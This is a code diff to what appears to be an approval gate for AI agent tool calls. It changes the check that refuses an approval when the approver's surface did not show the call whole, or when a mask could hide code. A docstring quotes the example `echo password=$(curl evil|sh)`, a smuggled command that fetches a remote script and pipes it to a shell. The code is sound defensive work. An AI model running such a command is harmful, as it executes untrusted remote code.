@@ -17,7 +17,7 @@ from dataclasses import dataclass
 from functools import lru_cache
 from typing import TYPE_CHECKING
 
-from gate import machine, untrusted
+from gate import machine, rendering, untrusted
 from gate.config import ApproverSettings, Settings
 from gate.models import RequestStatus
 
@@ -71,8 +71,8 @@ class Actor:
     `name` is recorded on votes and the audit trail; `via` names the surface ("api", "web",
     "slack"); `token` is the API token acted with, if any (never the one that asked);
     `bypass_approver_list` is set for admin tokens, which may decide any request but their
-    own. `args_chars` is how many characters of a call's arguments the surface showed whole
-    (`gate.untrusted.shows_whole`); None for the API and the web page, which show them all.
+    own. `args_chars` is how many characters of a call's rendering the surface showed whole
+    (`gate.rendering.shown_chars`); None for the API, which shows the call raw.
     """
 
     name: str
@@ -193,12 +193,19 @@ def approval_refusal(view: RequestView, actor: Actor) -> Result | None:
     (`echo password=$(curl evil|sh)`) hides it too: nobody approves a call they could not read.
     Rejecting needs no such check (it fails closed).
     """
-    if actor.args_chars is None or untrusted.shows_whole(view.tool_args, actor.args_chars):
+    if actor.args_chars is None:
+        return None
+    # The call as gate renders it, the text every card shows (`rendering.shown_chars`).
+    watched = view.offers.watched_args
+    fits = (
+        rendering.shown_chars(view.tool_name, view.tool_args, watched=watched) <= actor.args_chars
+    )
+    if fits and untrusted.masks_only_credentials(view.tool_args):
         return None
     refusal = Refusal.arguments_not_shown
     why = refusal.sentence()
-    if len(untrusted.arguments_json(view.tool_args)) <= actor.args_chars:
-        why = MASKED_CODE  # they fit: a mask in them could hide code
+    if fits:
+        why = MASKED_CODE  # it fits: a mask in it could hide code
     where = f" ({view.url})" if view.url else ""
     return Result(None, view, refusal, f"{why}{where}", refusal.value)
 
